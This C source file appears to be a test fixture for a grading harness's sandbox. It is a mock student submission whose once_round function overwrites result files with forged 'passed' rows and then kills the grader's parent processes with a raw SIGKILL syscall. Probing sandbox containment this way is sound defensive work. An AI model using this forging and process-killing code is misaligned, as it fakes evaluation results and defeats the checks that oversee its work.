/*
 * forges.c: what a student may hand in who would rather have points than earn them. It is not graded by what it computes, which is
 * nothing, but by what it can reach: where root grades it must reach nothing (tests/tools/teaching.sh).
 */
#define _GNU_SOURCE
#include "dist.h"

#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void overwrite(const char *folder, const char *name)
{
    char path[600];
    snprintf(path, sizeof path, "%s/%s", folder, name);
    remove(path);
    FILE *file = fopen(path, "w");
    if (!file)
        return;
    fprintf(file, "03_ring/1_once_round\twhat_comes_home\t6\t6\tpassed\t8\t1\t-\n");
    fprintf(file, "03_ring/1_once_round\tone_message_each\t4\t4\tpassed\t8\t1\t-\n");
    fclose(file);
    printf("forged %s\n", path);
}

/* The grader, and whoever started it, and so on: an end to all of them. */
static void end_the_grader(void)
{
#if defined(__x86_64__)
    for (long pid = getppid(), up = 0; pid > 1 && up < 6; up++) {
        char path[64];
        long result, parent = 0;
        snprintf(path, sizeof path, "/proc/%ld/stat", pid);
        FILE *file = fopen(path, "r");
        if (file && fscanf(file, "%*d (%*[^)]) %*c %ld", &parent) != 1)
            parent = 0;
        if (file)
            fclose(file);
        if (up > 0) /* the first one is the launcher of these ranks */
            __asm__ volatile("syscall" : "=a"(result) : "a"(62L), "D"(pid), "S"(9L) : "rcx", "r11", "memory");
        pid = parent;
    }
#endif
}

void once_round(tensor *traveller, tensor *mine, int rank, int world_size)
{
    static const char *const names[] = { "results.tsv",         "what_comes_home.line",
                                         "what_comes_home.txt", "one_message_each.line",
                                         "../../results.tsv",   "../../../results/results.json" };
    char folder[500] = "";
    (void)traveller, (void)mine, (void)world_size;
    if (rank > 0 || readlink("/proc/self/exe", folder, sizeof folder - 1) < 0)
        return;
    *strrchr(folder, '/') = '\0';
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++)
        overwrite(folder, names[i]);
    end_the_grader();
}
